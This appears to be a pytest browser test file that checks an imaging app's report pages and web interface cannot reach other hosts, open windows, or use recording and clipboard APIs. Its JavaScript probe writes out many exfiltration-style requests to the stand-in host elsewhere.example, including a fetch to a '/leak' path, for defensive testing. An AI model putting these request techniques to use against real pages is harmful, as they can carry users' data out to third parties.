"""Pages in a browser have no way out: no request to another host, no window, no recording, whatever is clicked."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from hf_medtl.data.images import encode_image
from tests.support.browser import MARKS, Page, expect, expect_answer, open_example, open_tab, upload_files
from tests.support.browser import address as address
from tests.support.browser import browser as browser
from tests.support.offline_pages import offline_pages as offline_pages
from tests.support.space_samples import draw_image

pytestmark = MARKS
BUTTONS = ["Download plot", "Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"]  # of a plot in a report

# Counts calls by which a page could send, record or open something without asking, and lets none of them happen.
COUNT_CALLS = """
window.outgoing = [];
const count = (owner, name) => {
  if (owner) Object.defineProperty(owner, name, { value: () => { outgoing.push(name); return Promise.reject(); } });
};
for (const name of ["getDisplayMedia", "getUserMedia", "enumerateDevices"]) count(navigator.mediaDevices, name);
for (const name of ["read", "readText", "write", "writeText"]) count(navigator.clipboard, name);
for (const name of ["sendBeacon", "share", "registerProtocolHandler"]) count(navigator, name);
for (const name of ["open", "showSaveFilePicker"]) count(window, name);
for (const name of ["submit", "requestSubmit"]) count(HTMLFormElement.prototype, name);
for (const name of ["RTCPeerConnection", "WebTransport", "WebSocket", "MediaRecorder", "SharedWorker"])
  window[name] = class { constructor() { outgoing.push(name); } };
"""
# Tries to reach another host in every way; each must be refused by the page's own policy.
TRY_TO_LEAVE = """
async () => {
  const host = "https://elsewhere.example/";
  const add = (name, attributes, parent = document.body) => {
    const element = Object.assign(document.createElement(name), attributes);
    parent.append(element);
    return element;
  };
  add("img", { src: host + "img" });
  add("script", { src: host + "script" });
  add("iframe", { src: host + "iframe" });
  add("link", { rel: "stylesheet", href: host + "css" }, document.head);
  add("style", { textContent: `@font-face { font-family: x; src: url(${host}font) } body { font-family: x }` });
  add("video", { src: host + "video" });
  add("object", { data: host + "object" });
  add("base", { href: host }, document.head);
  const form = add("form", { action: host + "form", method: "post" });
  add("button", { type: "submit", textContent: "send" }, form).click();
  const blind = { method: "POST", body: "x", mode: "no-cors" };
  const failed = await Promise.allSettled([fetch(host + "get"), fetch(host + "post", blind), import(host + "module")]);
  try { new EventSource(host + "events"); } catch {}
  try { new Worker(host + "worker"); } catch {}
  const request = new XMLHttpRequest();
  try { request.open("POST", host + "xhr"); request.send("x"); } catch {}
  await new Promise((done) => setTimeout(done, 100));
  return failed.map((each) => each.status);
}
"""


@pytest.fixture
def tab(browser, address: str) -> Iterator[tuple[Page, list[str]]]:
    """Return a tab, and the list of its requests to other hosts, of which none gets an answer."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    context.add_init_script(COUNT_CALLS)
    page, foreign = context.new_page(), list[str]()

    def refuse(route) -> None:
        foreign.append(route.request.url)
        route.abort()

    context.route(lambda url: not url.startswith((address, "file:", "data:", "blob:")), refuse)
    context.on("page", lambda opened: opened is page or foreign.append("another window"))
    yield page, foreign
    context.close()


def check_no_way_out(page: Page, foreign: list[str]) -> None:
    """Assert that nothing has left the page, and that nothing can."""
    assert page.evaluate("outgoing") == []
    assert foreign == []
    where = page.url
    assert page.evaluate(TRY_TO_LEAVE) == ["rejected"] * 3
    assert foreign == []
    assert page.url == where


def test_recorder_notices_ways_out(tab):
    page, foreign = tab
    page.goto("data:text/html,<button onclick='window.open(\"https://elsewhere.example\")'>Open</button>")
    page.get_by_role("button").click()
    page.evaluate("fetch('https://elsewhere.example/leak').catch(() => 0)")
    page.wait_for_function("outgoing.length")
    assert page.evaluate("outgoing") == ["open"]
    assert foreign == ["https://elsewhere.example/leak"]


def test_written_pages_have_no_way_out(tab, offline_pages: dict[str, Path]):
    page, foreign = tab
    for path in offline_pages.values():
        page.goto(path.as_uri())
        page.wait_for_function("document.querySelectorAll('.plot:not(:has(svg.main-svg))').length === 0")
        for plot in page.locator(".plot").all():
            plot.hover()
            buttons = plot.locator(".modebar-btn")
            names = [button.get_attribute("data-title") or "" for button in buttons.all()]
            assert [name.split(" as ")[0] for name in names] == BUTTONS
            for button in buttons.all():
                button.click()
        check_no_way_out(page, foreign)


def test_space_has_no_way_out(tab, address: str):
    page, foreign = tab
    for query in ("?view=settings", ""):
        page.goto(f"{address}/{query}")
        expect(page.locator("#examples button")).to_have_count(5)
        assert "view=" not in page.url
        words = "record|settings|share|via api|screen|studio|cloud|deploy|feedback|built with"
        exits = page.locator("button, a, [role=button]").evaluate_all(
            "(all, words) => all.map((each) => `${each.textContent} ${each.title} ${each.ariaLabel}`)"
            ".filter((text) => new RegExp(words, 'i').test(text))",
            words,
        )
        assert exits == [], query
    open_example(page)
    upload_files(page, ("a.png", encode_image(draw_image(90, 80))))
    expect_answer(page, 90, 80)
    for name in ("Segment", "Compare", "Batch", "About"):
        open_tab(page, name)
    addresses = page.locator("[href], [src], [action]").evaluate_all(
        "all => all.filter((each) => each.localName !== 'a').map((each) => each.href || each.src || each.action)"
    )
    assert [url for url in addresses if not url.startswith((address, "data:", "blob:"))] == []
    check_no_way_out(page, foreign)
